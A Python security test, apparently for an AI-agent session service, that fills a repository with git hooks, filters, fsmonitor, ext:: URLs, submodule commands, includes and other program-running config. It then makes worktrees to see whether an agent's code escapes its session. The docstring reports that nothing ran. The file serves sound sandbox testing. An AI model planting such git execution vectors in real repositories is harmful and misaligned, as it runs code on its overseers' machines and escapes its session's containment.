"""Fills a repository with programs, and lets the owner make worktrees of it.

Tries: every hook, `core.hooksPath`, fsmonitor, filters (clean, smudge, process; required),
external diffs, text conversion, merge drivers, editors, pagers, aliases, credential helpers,
partial clone with ext::, submodules with `update = !…`, includes, includeIf, a config of the
worktree; then a worktree, a fork, and every reading git call.
Would prove: the owner's "new session in a worktree" runs the agent's programs, outside its
session.
Saw: nothing ran.
"""
import subprocess

CONTROL = "by_hand"
HOOKS = ["post-checkout", "post-index-change", "reference-transaction", "post-commit",
         "pre-auto-gc", "fsmonitor-watchman", "pre-commit"]
KEYS = ["core.sshCommand", "core.gitProxy", "core.pager", "core.editor", "core.askPass",
        "core.alternateRefsCommand", "sequence.editor", "gpg.program", "gpg.ssh.program",
        "diff.external", "diff.evil.command", "diff.evil.textconv", "merge.evil.driver",
        "filter.evil.clean", "filter.evil.smudge", "filter.evil.process", "credential.helper",
        "alias.worktree", "alias.checkout", "alias.config", "alias.status", "pager.status",
        "uploadpack.packObjectsHook", "remote.origin.uploadpack", "remote.origin.vcs",
        "interactive.diffFilter", "submodule.s.update", "core.fsmonitor"]
READS = ["git/status", "git/diff", "git/log", "git/show?commit=HEAD", "git/worktrees",
         "fs/search?content=x&regex=true", "delete-preview"]


def trap(world):
    """A repository in the work folder; its programs write into the log that is returned."""
    log, program, work = world.root / "ran", world.root / "program", world.work
    program.write_text(f"#!/bin/sh\necho \"$0 $@\" >> {log}\ncat 2>/dev/null\n")
    program.chmod(0o755)
    include = world.root / "include"
    include.write_text(f"[core]\n fsmonitor = {program} included\n"
                       f"[filter \"evil\"]\n smudge = {program} included\n")
    script = [
        "git init -q; git config user.email a@b; git config user.name a; mkdir sub; echo 1 > f",
        "echo '* filter=evil diff=evil merge=evil ident' > .gitattributes; cp .gitattributes sub",
        f"printf '[submodule \"s\"]\\n path = s\\n url = ext::{program}\\n' > .gitmodules",
        f"printf ' update = !{program}\\n' >> .gitmodules",
        "git add -A; git commit -qm x; git branch other",
        *(f"for d in .git/hooks .git/more; do mkdir -p $d; cp {program} $d/{hook}; done"
          for hook in HOOKS),
        *(f"git config {key} '{program} {key}'" for key in KEYS),
        "git config filter.evil.required true; git config core.hooksPath .git/more",
        f"git config remote.origin.url 'ext::{program}'; git config remote.origin.promisor true",
        "git config extensions.partialClone origin; git config protocol.ext.allow always",
        "git config extensions.worktreeConfig true; git config submodule.recurse true",
        f"printf '[core]\\n fsmonitor = {program} worktree\\n' > .git/config.worktree",
        f"printf '[include]\\n path = {include}\\n' >> .git/config",
        f"printf '[includeIf \"gitdir:**\"]\\n path = {include}\\n' >> .git/config",
    ]
    subprocess.run(["sh", "-c", "\n".join(script)], cwd=work, env=world.environment,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if log.exists():
        log.unlink()
    return log


def attack(world):
    log = trap(world)
    if world.control == "by_hand":
        subprocess.run(["git", "worktree", "add", "-q", str(world.root / "tree"), "other"],
                       cwd=world.work, env=world.environment, stderr=subprocess.DEVNULL)
        return log.read_text().splitlines() if log.exists() else []
    made, found = 0, []
    for branch in ({}, {"branch": "new"}, {"branch": "other"}):
        status, answer = world.api.post("/api/sessions", {
            "agent": "puppet", "cwd": str(world.work), "worktree": branch})
        if status != 201:
            continue
        made += 1
        session = answer["session"]["id"]
        world.api.post(f"/api/sessions/{session}/fork", {})
        for read in READS:
            world.api.get(f"/api/sessions/{session}/{read}")
            if log.exists():
                found.append(f"{read} ran {log.read_text()[:300]}")
                log.unlink()
    if not made:
        raise RuntimeError(f"no worktree could be made: {answer}")
    return found
